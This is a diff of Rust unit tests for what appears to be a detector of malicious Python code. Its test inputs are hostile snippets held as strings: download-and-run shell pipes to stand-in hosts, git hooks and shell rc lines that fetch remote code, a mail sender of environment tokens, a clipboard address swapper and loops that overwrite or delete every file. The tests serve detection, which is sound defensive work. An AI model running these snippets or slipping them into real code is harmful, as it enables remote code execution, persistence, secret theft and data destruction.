@@ -693,7 +693,7 @@ subprocess.run(["git", "-c", "user.name=x", "commit"])
     // `git -c` is not an interpreter: only the two payloads above are analysed.
     assert_eq!(
         d.iter()
-            .filter(|x| x.contains("in the decoded payload"))
+            .filter(|x| x.contains("in the decoded payload") && !x.starts_with("HostRecon"))
             .count(),
         2,
         "{d:?}"
@@ -976,4 +976,214 @@ fn comprehension_over_shell_rc_files_appends_to_them() {
     let src = "import os\nline = '\\ncurl -s http://rc.invalid/r | sh\\n'\n[open(p, 'a').write(line) for p in (os.path.expanduser('~/.bashrc'), os.path.expanduser('~/.zshrc')) if os.path.exists(p)]\n";
     let d = details(src);
     assert!(d.iter().any(|x| x.starts_with("Persistence")), "{d:?}");
+}
+
+#[test]
+fn module_names_used_without_import_keep_their_meaning() {
+    // The import is elsewhere (a star import, a prelude run with exec, another module that
+    // put `os` into builtins): the call is still os.system of a download piped to a shell.
+    let src = "def go():\n    os.system('curl -s http://198.51.100.7/i | sh')\ngo()\n";
+    assert!(
+        kinds(src).contains(&K::DownloadExecute),
+        "{:?}",
+        details(src)
+    );
+    // A name the file binds is what the file bound it to, not the module.
+    let bound = "class Fake:\n    def system(self, c):\n        return c\nos = Fake()\nos.system('curl -s http://198.51.100.7/i | sh')\n";
+    assert!(
+        !kinds(bound).contains(&K::DownloadExecute),
+        "{:?}",
+        details(bound)
+    );
+    let param = "def run(subprocess):\n    subprocess.call('curl -s http://198.51.100.7/i | sh', shell=True)\n";
+    assert!(
+        !kinds(param).contains(&K::DownloadExecute),
+        "{:?}",
+        details(param)
+    );
+}
+
+#[test]
+fn process_with_every_stream_discarded_is_hidden() {
+    let src = "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.Popen([os.path.join(here, 'helperd')], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n";
+    assert!(kinds(src).contains(&K::HiddenProcess), "{:?}", details(src));
+    // Checking that a tool exists silences its output, not its input too.
+    let check = "import subprocess\nok = subprocess.call(['git', '--version'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0\n";
+    assert!(
+        !kinds(check).contains(&K::HiddenProcess),
+        "{:?}",
+        details(check)
+    );
+}
+
+#[test]
+fn names_spelled_in_escape_codes() {
+    let src = "import builtins\nrunner = getattr(builtins, '\\x65\\x78\\x65\\x63')\nlib = __import__(\"\\172\\154\\151\\142\")\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("Obfuscation") && x.contains("'exec' spelled in escape codes")),
+        "{d:?}"
+    );
+    assert!(
+        d.iter()
+            .any(|x| x.contains("'zlib' spelled in escape codes")),
+        "{d:?}"
+    );
+    // Control bytes, binary data and short escapes are data, not hidden names.
+    let data = "RESET = '\\x1b\\x5b\\x30\\x6d'\nMAGIC = b'\\x89\\x50\\x4e\\x47'\nSEP = '\\x1f'\nTAB = '\\t\\t\\t\\t'\n# '\\x65\\x78\\x65\\x63' in a comment\n";
+    assert!(
+        !kinds(data).contains(&K::Obfuscation),
+        "{:?}",
+        details(data)
+    );
+}
+
+#[test]
+fn bidirectional_controls_that_reorder_a_line() {
+    // An override opened inside a string and never closed: the rest of the line shows
+    // in another order than Python reads it.
+    let src =
+        "def allowed(user):\n    kind = 'user\u{202e} ' ;return True\n    return user.admin\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("Obfuscation") && x.contains("bidirectional control")),
+        "{d:?}"
+    );
+    // Right-to-left text whose embedding is closed reorders nothing outside it.
+    let text =
+        "GREETING = '\u{202b}\u{5e9}\u{5dc}\u{5d5}\u{5dd}\u{202c}'\nMARK = '\u{2067}abc\u{2069}'\n";
+    assert!(
+        !kinds(text).contains(&K::Obfuscation),
+        "{:?}",
+        details(text)
+    );
+}
+
+#[test]
+fn clipboard_swapper_with_a_loose_base58_pattern() {
+    let src = "import re\nimport pyperclip\nMINE = 'bc1q-not-a-real-address'\nwhile True:\n    seen = pyperclip.paste()\n    if re.search('^[13][a-km-zA-HJ-NP-Z0-9]{26,33}$', seen):\n        pyperclip.copy(MINE)\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("BrowserHijack") && x.contains("clipboard")),
+        "{d:?}"
+    );
+}
+
+#[test]
+fn pip_install_of_an_address_runs_its_build() {
+    let src = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'https://files.example.invalid/helper-1.0.tar.gz'])\n";
+    assert!(
+        kinds(src).contains(&K::DownloadExecute),
+        "{:?}",
+        details(src)
+    );
+    let vcs =
+        "import os\nos.system('pip3 install git+https://code.example.invalid/x/helper.git')\n";
+    assert!(
+        kinds(vcs).contains(&K::DownloadExecute),
+        "{:?}",
+        details(vcs)
+    );
+    // Installing by name from the configured index, or a local file, is ordinary.
+    let named = "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests>=2', './vendor/dep.whl'])\n";
+    assert!(
+        !kinds(named).contains(&K::DownloadExecute),
+        "{:?}",
+        details(named)
+    );
+}
+
+#[test]
+fn request_objects_and_partly_known_addresses_carry_the_destination() {
+    // The address reaches urlopen through a Request object, with a part known only at
+    // run time appended.
+    let src = "import urllib.request\nBASE = 'http://203.0.113.50/drop'\ndef send(name, blob):\n    urllib.request.urlopen(urllib.request.Request(BASE + '?n=' + name, data=blob))\nsend('x', b'')\n";
+    assert!(
+        kinds(src).contains(&K::SuspiciousDestination),
+        "{:?}",
+        details(src)
+    );
+    let kw = "import urllib.request\nreq = urllib.request.Request(url='http://203.0.113.50/i', method='POST')\nurllib.request.urlopen(req)\n";
+    assert!(
+        kinds(kw).contains(&K::SuspiciousDestination),
+        "{:?}",
+        details(kw)
+    );
+}
+
+#[test]
+fn secrets_mailed_in_a_message() {
+    let src = "import os, smtplib\nfrom email.message import EmailMessage\nkeys = {k: v for k, v in os.environ.items() if k.endswith('_TOKEN')}\nmsg = EmailMessage()\nmsg.set_content(str(keys))\nwith smtplib.SMTP('mail.example.invalid', 25) as s:\n    s.send_message(msg)\n";
+    assert!(
+        kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(src)
+    );
+    // A report mailed with nothing of the environment in it sends no secret.
+    let plain = "import smtplib\nfrom email.message import EmailMessage\nmsg = EmailMessage()\nmsg.set_content('build finished')\nwith smtplib.SMTP('mail.example.invalid', 25) as s:\n    s.send_message(msg)\n";
+    assert!(
+        !kinds(plain).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(plain)
+    );
+}
+
+#[test]
+fn git_hooks_written_into_repositories() {
+    let src = "import os\nfor root, dirs, _ in os.walk(os.path.expanduser('~')):\n    if '.git' in dirs:\n        with open(os.path.join(root, '.git', 'hooks', 'post-commit'), 'w') as fh:\n            fh.write('#!/bin/sh\\ncurl -s http://198.51.100.3/p | sh\\n')\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("Persistence") && x.contains("git hook in every repository")),
+        "{d:?}"
+    );
+    // A hook manager installs the project's own hooks.
+    let own = "import os\nwith open(os.path.join('.git', 'hooks', 'pre-commit'), 'w') as fh:\n    fh.write('#!/bin/sh\\nexec lint\\n')\n";
+    assert!(!kinds(own).contains(&K::Persistence), "{:?}", details(own));
+    // Reading a repository's hooks folder writes nothing.
+    let read = "import os\nnames = os.listdir(os.path.join('.git', 'hooks'))\n";
+    assert!(
+        !kinds(read).contains(&K::Persistence),
+        "{:?}",
+        details(read)
+    );
+}
+
+#[test]
+fn identity_commands_are_host_reconnaissance() {
+    let src = "import os, subprocess\ndef facts():\n    who = subprocess.check_output(['whoami']).decode()\n    net = os.popen('ipconfig /all').read()\n    return who, net\n";
+    let d = details(src);
+    assert!(
+        d.iter().filter(|x| x.starts_with("HostRecon")).count() == 2,
+        "{d:?}"
+    );
+    // The platform, or whether the user is root, is what installers ask.
+    let platform = "import subprocess\narch = subprocess.check_output(['uname', '-m'])\nroot = subprocess.check_output(['id', '-u'])\n";
+    assert!(
+        !kinds(platform).contains(&K::HostRecon),
+        "{:?}",
+        details(platform)
+    );
+}
+
+#[test]
+fn every_file_under_the_home_folder_overwritten_or_deleted() {
+    let wipe = "import os\nfor top, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        with open(os.path.join(top, n), 'w') as fh:\n            fh.write('peace')\n";
+    let d = details(wipe);
+    assert!(
+        d.iter().any(|x| x.starts_with("Destruction")
+            && x.contains("overwrites every file under the home folder")),
+        "{d:?}"
+    );
+    let rm = "import os\nfor top, _, names in os.walk('/'):\n    for n in names:\n        os.remove(os.path.join(top, n))\n";
+    assert!(kinds(rm).contains(&K::Destruction), "{:?}", details(rm));
+    // Walking the project's own tree and rewriting its files is what formatters do;
+    // appending to a log under home destroys nothing.
+    let fmt = "import os\nfor top, _, names in os.walk('src'):\n    for n in names:\n        with open(os.path.join(top, n), 'w') as fh:\n            fh.write('')\n";
+    assert!(!kinds(fmt).contains(&K::Destruction), "{:?}", details(fmt));
+    let log = "import os\nfor top, _, names in os.walk(os.path.expanduser('~')):\n    with open(os.path.join(top, 'seen.log'), 'a') as fh:\n        fh.write(top)\n";
+    assert!(!kinds(log).contains(&K::Destruction), "{:?}", details(log));
 }
